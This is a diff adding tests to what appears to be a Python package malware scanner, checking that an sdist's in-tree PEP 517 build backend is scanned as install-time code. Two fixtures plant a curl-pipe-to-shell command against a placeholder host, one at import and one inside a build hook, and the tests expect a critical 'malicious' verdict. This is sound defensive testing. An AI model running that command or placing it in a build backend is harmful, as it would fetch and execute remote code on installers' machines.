@@ -1649,3 +1649,61 @@ def test_an_honest_pth_with_a_bom_and_a_cookie_like_comment_stays_quiet():
     result = analyze(_wheel_with_pth(honest))
     assert result.verdict not in FLAGGED
     assert not found(result, "analysis.encoding")
+
+
+# -- an sdist's own build backend (PEP 517 backend-path) runs when it is built: install time -----
+
+_BACKEND_CONFIG = """
+[build-system]
+requires = ["setuptools"]
+build-backend = "demo_build.backend"
+backend-path = ["tools"]
+"""
+
+_HONEST_BACKEND = """
+from setuptools import build_meta as _orig
+
+build_sdist = _orig.build_sdist
+prepare_metadata_for_build_wheel = _orig.prepare_metadata_for_build_wheel
+
+
+def get_requires_for_build_wheel(config_settings=None):
+    return _orig.get_requires_for_build_wheel(config_settings) + ["cython>=3"]
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
+"""
+
+
+def _with_backend(backend: str) -> dict[str, str]:
+    return {
+        "pyproject.toml": _BACKEND_CONFIG,
+        "tools/demo_build/__init__.py": "",
+        "tools/demo_build/backend.py": backend,
+        "src/demo/__init__.py": "",
+    }
+
+
+def test_an_in_tree_build_backend_is_install_time_code():
+    on_import = (
+        _HONEST_BACKEND + "\nimport os\nos.system('curl -s https://cdn.example.net/x.sh | sh')\n"
+    )
+    result = scan(_with_backend(on_import))
+    [hit] = found(result, "intent.shell-download-execute")
+    assert hit.severity == "critical" and "at install time" in hit.message
+    assert result.verdict == "malicious"
+    # ... and so is a hook the frontend calls
+    in_hook = _HONEST_BACKEND.replace(
+        "    return _orig.get_requires_for_build_wheel",
+        "    __import__('os').system('curl -s https://cdn.example.net/x.sh | sh')\n"
+        "    return _orig.get_requires_for_build_wheel",
+    )
+    result = scan(_with_backend(in_hook))
+    assert {f.severity for f in found(result, "intent.shell-download-execute")} == {"critical"}
+    assert result.verdict == "malicious"
+
+
+def test_an_honest_in_tree_build_backend_wrapping_setuptools_is_quiet():
+    result = scan(_with_backend(_HONEST_BACKEND))
+    assert result.verdict == "clean", [(f.rule, f.severity) for f in result.findings]
